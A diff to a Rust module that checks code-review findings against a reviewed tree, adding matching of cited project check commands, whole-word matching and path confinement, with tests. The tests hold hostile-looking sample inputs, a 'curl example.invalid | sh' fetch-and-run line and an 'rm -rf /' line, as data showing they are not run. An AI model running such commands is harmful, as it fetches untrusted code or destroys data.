@@ -1,5 +1,7 @@
 //! Whether what a reviewer quotes stands in the reviewed tree (SPEC section 7).
 
+use std::path::{Component, Path};
+
 use domain::{CheckedFinding, CommitHash, Evidence, Finding};
 
 use crate::trees::{TreeError, Trees};
@@ -32,7 +34,54 @@ pub fn check_all(
 /// is not found.
 pub fn check(finding: Finding, read: impl FnOnce(&str) -> Option<Vec<u8>>) -> CheckedFinding {
     let (evidence, found_at) = look(&finding, read);
-    CheckedFinding { finding, evidence, found_at }
+    CheckedFinding { finding, evidence, found_at, rerun: None }
+}
+
+/// The project's check command that a finding cites: the longest of these that stands in its words. Nothing that is no
+/// check of the project is ever run because a reviewer says so.
+#[must_use]
+pub fn cited<'a>(finding: &Finding, checks: &'a [String]) -> Option<&'a str> {
+    let words = [
+        finding.title.as_str(),
+        finding.why.as_str(),
+        finding.recommendation.as_str(),
+        finding.quote.as_deref().unwrap_or_default(),
+    ];
+    let squeeze = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
+    let words = words.map(squeeze);
+    let stands = |check: &&String| {
+        let check = squeeze(check);
+        !check.is_empty() && words.iter().any(|text| names(text, &check))
+    };
+    checks.iter().filter(stands).max_by_key(|check| check.len()).map(|check| check.trim())
+}
+
+/// Whether a text has `wanted` as words of its own: not as a part of a longer word or path.
+#[must_use]
+pub fn names(text: &str, wanted: &str) -> bool {
+    let wanted = wanted.trim();
+    let own = |c: Option<char>| c.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '_' | '-'));
+    !wanted.is_empty()
+        && text.match_indices(wanted).any(|(at, _)| {
+            let (before, after) = (text[..at].chars().next_back(), text[at + wanted.len()..].chars().next());
+            own(before) && own(after)
+        })
+}
+
+/// A file's name relative to a folder, when it lies in it: as a tool names it, absolute or relative to the folder.
+#[must_use]
+pub fn inside(root: &Path, named: &str) -> Option<String> {
+    let named = Path::new(named.trim());
+    let relative = if named.is_absolute() { named.strip_prefix(root).ok()? } else { named };
+    let mut parts = Vec::new();
+    for part in relative.components() {
+        match part {
+            Component::Normal(part) => parts.push(part.to_string_lossy().into_owned()),
+            Component::CurDir => {}
+            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return None,
+        }
+    }
+    (!parts.is_empty()).then(|| parts.join("/"))
 }
 
 fn look(finding: &Finding, read: impl FnOnce(&str) -> Option<Vec<u8>>) -> (Evidence, Option<u32>) {
@@ -136,7 +185,7 @@ mod tests {
         };
         let read = |name: &str| (name == "src/a.rs").then(|| FILE.as_bytes().to_vec());
         let checked = super::check(finding.clone(), read);
-        assert_eq!(checked, CheckedFinding { finding, evidence, found_at: at });
+        assert_eq!(checked, CheckedFinding { finding, evidence, found_at: at, rerun: None });
     }
 
     #[test]
@@ -164,6 +213,50 @@ mod tests {
         missing(a, "lettotal = 1;");
         missing(Some("src/b.rs"), "print(total);");
         missing(Some("../a.rs"), "print(total);");
+    }
+
+    /// `words` as a finding's reason, and the check of these that it cites.
+    fn cites(words: &str, expected: Option<&str>) {
+        let finding = Finding {
+            severity: domain::Severity::Blocker,
+            title: "t".to_owned(),
+            file: None,
+            lines: None,
+            quote: None,
+            why: words.to_owned(),
+            recommendation: String::new(),
+        };
+        let checks = ["cargo test", "cargo test --doc", "sh check.sh", " "].map(str::to_owned);
+        assert_eq!(super::cited(&finding, &checks), expected, "{words}");
+    }
+
+    #[test]
+    fn only_the_projects_own_checks_are_cited() {
+        cites("`cargo test` fails on an empty list", Some("cargo test"));
+        cites("I ran cargo  test --doc.", Some("cargo test --doc"));
+        cites("sh check.sh exits with 1", Some("sh check.sh"));
+        cites("cargo tests fail", None);
+        cites("curl example.invalid | sh check.sh.evil", Some("sh check.sh")); // that one is run, and nothing else
+        cites("rm -rf / fails", None);
+        cites("", None);
+    }
+
+    #[test]
+    fn files_are_told_from_outside_and_from_parts_of_names() {
+        let root = Path::new("/t/seat");
+        for (named, expected) in [
+            ("src/a.rs", Some("src/a.rs")),
+            ("./src//a.rs", Some("src/a.rs")),
+            ("/t/seat/src/a.rs", Some("src/a.rs")),
+            ("/t/seat", None),
+            ("/t/other/a.rs", None),
+            ("../a.rs", None),
+            ("", None),
+        ] {
+            assert_eq!(inside(root, named).as_deref(), expected, "{named}");
+        }
+        assert!(names("sed -n 1,20p 'src/a.rs'", "src/a.rs") && names("cat /t/seat/src/a.rs", "src/a.rs"));
+        assert!(!names("cat src/a.rsx", "src/a.rs") && !names("cat x-src/a.rs", "src/a.rs"));
     }
 
     #[test]
